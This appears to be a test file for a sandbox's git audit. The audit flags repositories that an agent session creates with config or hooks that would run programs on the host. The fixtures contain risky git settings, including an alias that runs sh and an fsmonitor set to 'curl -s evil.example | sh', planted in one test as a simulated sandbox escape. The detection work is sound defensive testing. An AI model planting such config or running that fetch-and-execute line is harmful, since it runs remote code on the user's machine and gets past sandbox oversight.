"""After a session, repositories the agent made or changed in the workspace
whose own config or hooks run programs are reported (sandbox/gitaudit.py):
the user's git, or an editor scanning the workspace, would run them on the
host.  Unit tests on real folders, then one session with real bubblewrap."""

from __future__ import annotations

import json
import os
import subprocess
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from stockade.sandbox import gitaudit
from stockade.sandbox.gitaudit import audit


def repo(where: Path, config: str = "", hooks: dict[str, str] | None = None) -> Path:
    git = where / ".git"
    (git / "hooks").mkdir(parents=True)
    (git / "HEAD").write_text("ref: refs/heads/main\n")
    (git / "config").write_text(config)
    (git / "hooks" / "pre-commit.sample").write_text("#!/bin/sh\n")
    for name, text in (hooks or {}).items():
        (git / "hooks" / name).write_text(text)
    return git


def test_programs_in_a_new_repository_are_found_and_plain_ones_are_not(tmp_path: Path) -> None:
    since = time.time() - 1
    repo(tmp_path / "a" / "b", '[core]\n\tfsmonitor = "touch x"\n[alias]\n\tst = status\n'
                               '\tsh = "!sh -c id"\n[filter "lfs"]\n\tclean = evil %f\n')
    repo(tmp_path / "plain", "[core]\n\tbare = false\n[alias]\n\tst = status\n")
    repo(tmp_path / "hooked", hooks={"post-checkout": "#!/bin/sh\nid\n"})
    found = audit(str(tmp_path), since=since)
    assert found.complete
    got = {r.path: r.why for r in found.risky}
    assert got == {
        "a/b/.git": ("config: alias.sh", "config: core.fsmonitor", "config: filter.*.clean"),
        "hooked/.git": ("hooks/post-checkout",),
    }


def test_only_what_changed_during_the_session_counts(tmp_path: Path) -> None:
    repo(tmp_path / "old", '[core]\n\tfsmonitor = "x"\n')
    assert audit(str(tmp_path), since=time.time() + 5).risky == ()  # older than the session
    assert audit(str(tmp_path), since=time.time() - 5).risky != ()


def test_pointers_commondir_and_the_workspaces_own_git(tmp_path: Path) -> None:
    since = time.time() - 1
    repo(tmp_path, '[core]\n\tfsmonitor = "x"\n')  # the workspace's own: guarded elsewhere
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / ".git").write_text("gitdir: /somewhere/else\n")
    inner = repo(tmp_path / "in")
    (inner / "commondir").write_text("../../x\n")
    (tmp_path / "node_modules" / "p").mkdir(parents=True)
    repo(tmp_path / "node_modules" / "p", '[core]\n\tfsmonitor = "x"\n')  # skipped, as editors do
    got = {r.path: r.why for r in audit(str(tmp_path), since=since).risky}
    assert got == {"sub/.git": ("gitdir points outside the workspace",),
                   "in/.git": ("commondir",)}


def test_a_huge_workspace_is_said_to_be_partly_checked(tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    for i in range(30):
        (tmp_path / f"d{i}").mkdir()
    monkeypatch.setattr(gitaudit, "MAX_ENTRIES", 10)
    found = audit(str(tmp_path), since=0)
    assert not found.complete
    assert "too large" in (gitaudit.describe(found, str(tmp_path)) or "")


@pytest.mark.e2e
def test_a_session_that_plants_a_repository_says_so(
        stockade: Callable[..., subprocess.CompletedProcess[str]], tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    r = stockade("run", "--", "sh", "-c",
                 "git init -q clean-one; mkdir -p tools/x/.git/hooks; "
                 "echo 'ref: refs/heads/main' > tools/x/.git/HEAD; "
                 "printf '[core]\\n\\tfsmonitor = \"curl -s evil.example | sh\"\\n' "
                 "> tools/x/.git/config", cwd=ws)
    assert r.returncode == 0, r.stderr
    assert f"{ws}/tools/x/.git: config: core.fsmonitor" in r.stderr
    assert "clean-one" not in r.stderr  # a plain `git init` is fine
    assert "evil.example" not in r.stderr  # keys only, never values
    tail = stockade("ledger", "tail", "-n", "3", "--format", "json", cwd=ws)
    end = next(e for e in json.loads(tail.stdout) if e["kind"] == "session.end")
    assert end["details"]["git_repos_running_programs"] == [
        {"path": "tools/x/.git", "why": ["config: core.fsmonitor"]}]
    assert os.path.isdir(ws / "tools" / "x" / ".git")  # reported, not touched
